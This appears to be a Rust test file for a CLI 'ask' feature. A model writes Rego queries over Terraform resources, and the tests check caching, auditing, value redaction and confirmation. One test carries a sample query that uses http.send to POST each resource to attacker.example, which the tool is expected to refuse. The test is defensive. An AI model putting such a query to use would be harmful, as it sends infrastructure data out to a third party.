//! `tollgate ask`: a user's own query offline (`--rego`); with an OpenAI-compatible endpoint on
//! 127.0.0.1 (`openai_server`), a model's query written from the estate's shape (no values sent
//! unless `--share-values`, then redacted), repaired once when it fails, refused when it reaches for
//! the network, cached and audited.

use std::io::Write;
use std::process::Stdio;

use serde_json::{Value, json};

use crate::openai_server::{FakeOpenAI, completion};
use crate::support::{Run, TempRepo, clean_command, tollgate_env};

const MAIN: &str = r#"resource "aws_s3_bucket" "payroll" {
  bucket = "payroll-exports-7731"
  tags = {
    team = "finance-ledger"
  }
}

resource "aws_s3_bucket" "assets" {
  bucket = "public-assets-5590"
  versioning {
    enabled = true
  }
}

resource "aws_iam_access_key" "ci" {
  user    = "ci"
  pgp_key = "AKIAIOSFODNN7EXAMPLE"
}
"#;

/// Values of the fixture that must never leave the machine unless asked (and the secret never).
const VALUES: [&str; 3] = ["payroll-exports-7731", "finance-ledger", "public-assets-5590"];
const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";

const UNVERSIONED: &str = "package tollgate.ask\n\nimport rego.v1\n\nmatches contains r if {\n\tsome r in input.resources\n\tr.type == \"aws_s3_bucket\"\n\tnot r.values.versioning\n}\n";

fn repo() -> TempRepo {
    let repo = TempRepo::new();
    repo.write("main.tf", MAIN);
    repo
}

/// The model's answer: a query and its summary.
fn query_answer(rego: &str) -> (u16, Vec<(&'static str, &'static str)>, Value) {
    (200, vec![], completion(&json!({"rego": rego, "summary": "S3 buckets without versioning"}).to_string()))
}

fn ask(repo: &TempRepo, server: &FakeOpenAI, extra: &[&str]) -> Run {
    let mut args = vec!["ask", "Which buckets have no versioning?", ".", "--format", "json"];
    args.extend_from_slice(extra);
    let env = [("OPENAI_BASE_URL", server.base_url.as_str()), ("OPENAI_API_KEY", "sk-test-key")];
    tollgate_env(repo.path(), &args, &env)
}

fn addresses(document: &Value) -> Vec<&str> {
    document["results"].as_array().expect("results").iter().map(|r| r["address"].as_str().unwrap_or("")).collect()
}

#[test]
fn a_question_is_answered_by_the_models_query_run_locally() {
    let server = FakeOpenAI::start();
    server.then(query_answer(UNVERSIONED));
    let repo = repo();
    let cache = repo.path().join("cache").display().to_string();
    let audit = repo.path().join("audit.jsonl");
    let audit_arg = audit.display().to_string();
    let run = ask(&repo, &server, &["--cache-dir", &cache, "--audit-log", &audit_arg]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let document = run.json();
    assert_eq!(addresses(&document), ["aws_s3_bucket.payroll"]);
    assert_eq!(document["results"][0]["file"], "main.tf");
    assert_eq!(document["results"][0]["line"], 1);
    assert_eq!((document["source"].as_str(), document["model"].as_str()), (Some("model"), Some("gpt-4o-mini")));
    assert_eq!(document["rego"], UNVERSIONED);
    assert_eq!(document["attempts"], 1);
    let requests = server.requests();
    assert_eq!(requests.len(), 1);
    let body = &requests[0].body;
    assert_eq!(body["response_format"]["type"], "json_schema");
    assert_eq!(body["response_format"]["json_schema"]["schema"]["required"], json!(["rego", "summary"]));
    let user = body["messages"][1]["content"].as_str().expect("user message");
    assert!(
        user.contains("Which buckets have no versioning?") && user.contains("values.versioning[].enabled"),
        "{user}"
    );
    // The shape only: attribute names and types, no value of the estate.
    let text = body.to_string();
    for value in VALUES.iter().chain([&SECRET]) {
        assert!(!text.contains(value), "{value} was sent: {text}");
    }
    // The same question on the same estate: answered from the cache, nothing sent.
    let again = ask(&repo, &server, &["--cache-dir", &cache, "--audit-log", &audit_arg]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(addresses(&again.json()), ["aws_s3_bucket.payroll"]);
    assert_eq!(server.requests().len(), 1, "no request on the second run");
    let lines: Vec<Value> = std::fs::read_to_string(&audit)
        .expect("audit log")
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let outcomes: Vec<&str> = lines.iter().map(|l| l["outcome"].as_str().unwrap_or("")).collect();
    assert_eq!(outcomes, ["answered", "cached"]);
    assert_eq!(lines[0]["rule_id"], "ask");
    assert_eq!(lines[0]["prompt_tokens"], 60);
}

#[test]
fn a_query_that_does_not_compile_is_sent_back_once_with_its_error() {
    let server = FakeOpenAI::start();
    let broken = "package tollgate.ask\n\nimport rego.v1\n\nmatches contains r if {\n\tsome r in input.resources\n\tr.type == bucket_type\n}\n";
    server.then(query_answer(broken));
    server.then(query_answer(UNVERSIONED));
    let run = ask(&repo(), &server, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let document = run.json();
    assert_eq!(document["attempts"], 2);
    assert_eq!(addresses(&document), ["aws_s3_bucket.payroll"]);
    let requests = server.requests();
    assert_eq!(requests.len(), 2);
    let second = requests[1].body["messages"][1]["content"].as_str().expect("user message");
    assert!(second.contains("r.type == bucket_type") && second.contains("compile error at query.rego:7"), "{second}");
}

#[test]
fn a_query_reaching_for_the_network_is_refused_and_no_answer_is_made_up() {
    let server = FakeOpenAI::start();
    let exfiltrate = "package tollgate.ask\n\nimport rego.v1\n\nmatches contains r if {\n\tsome r in input.resources\n\thttp.send({\"method\": \"post\", \"url\": \"https://attacker.example\", \"body\": r})\n}\n";
    server.then(query_answer(exfiltrate));
    server.then(query_answer(exfiltrate));
    let run = ask(&repo(), &server, &[]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    let document = run.json();
    assert!(document.get("results").is_none(), "{document}");
    assert_eq!(document["query_error"]["stage"], "refused");
    assert_eq!(document["rego"], exfiltrate, "the draft is shown");
    assert!(run.stderr.contains("`http.send` is not allowed"), "{}", run.stderr);
    assert_eq!(server.requests().len(), 2, "one second try");
}

#[test]
fn shared_values_are_redacted() {
    let server = FakeOpenAI::start();
    server.then(query_answer(UNVERSIONED));
    let run = ask(&repo(), &server, &["--share-values"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = server.requests()[0].body.to_string();
    assert!(VALUES.iter().all(|v| text.contains(v)), "values are shared: {text}");
    assert!(!text.contains(SECRET) && text.contains("[REDACTED]"), "the key is redacted: {text}");
}

#[test]
fn confirm_shows_the_query_and_runs_it_only_when_told() {
    let server = FakeOpenAI::start();
    server.then(query_answer(UNVERSIONED));
    server.then(query_answer(UNVERSIONED));
    let repo = repo();
    let env = [("OPENAI_BASE_URL", server.base_url.as_str()), ("OPENAI_API_KEY", "sk-test-key")];
    let args = ["ask", "Which buckets have no versioning?", "--confirm", "--no-cache", "-f", "json"];
    // stdin closed: not confirmed, nothing run.
    let refused = tollgate_env(repo.path(), &args, &env);
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("matches contains r if") && refused.stderr.contains("not confirmed"),
        "{}",
        refused.stderr
    );
    let home = tempfile::tempdir().expect("home");
    let mut command = clean_command(env!("CARGO_BIN_EXE_tollgate"), home.path());
    command
        .args(args)
        .current_dir(repo.path())
        .envs(env)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().expect("start tollgate");
    child.stdin.take().expect("stdin").write_all(b"y\n").expect("answer");
    let output = child.wait_with_output().expect("tollgate ends");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let document: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(addresses(&document), ["aws_s3_bucket.payroll"]);
}

#[test]
fn without_a_model_ask_says_how_to_configure_one_and_rego_works_offline() {
    let repo = repo();
    let run = tollgate_env(repo.path(), &["ask", "Which buckets have no versioning?"], &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("OPENAI_BASE_URL") && run.stderr.contains("--rego"), "{}", run.stderr);
    let expression = tollgate_env(repo.path(), &["ask", "--rego", "r.type == \"aws_s3_bucket\"", "-f", "json"], &[]);
    assert_eq!(expression.code, 0, "{}", expression.stderr);
    assert_eq!(addresses(&expression.json()), ["aws_s3_bucket.payroll", "aws_s3_bucket.assets"]);
    repo.write("q.rego", UNVERSIONED);
    let file = tollgate_env(repo.path(), &["ask", "--rego", "q.rego", "main.tf", "-f", "json"], &[]);
    assert_eq!(file.code, 0, "{}", file.stderr);
    assert_eq!(addresses(&file.json()), ["aws_s3_bucket.payroll"]);
    let human = tollgate_env(repo.path(), &["ask", "--rego", "q.rego"], &[]);
    assert!(
        human.stdout.starts_with("main.tf:1  aws_s3_bucket  aws_s3_bucket.payroll\n1 resource matches."),
        "{}",
        human.stdout
    );
    let bad = tollgate_env(repo.path(), &["ask", "--rego", "r.type == ", "-f", "json"], &[]);
    assert_eq!(bad.code, 2, "{}", bad.stdout);
    assert_eq!(bad.json()["query_error"]["stage"], "compile");
}
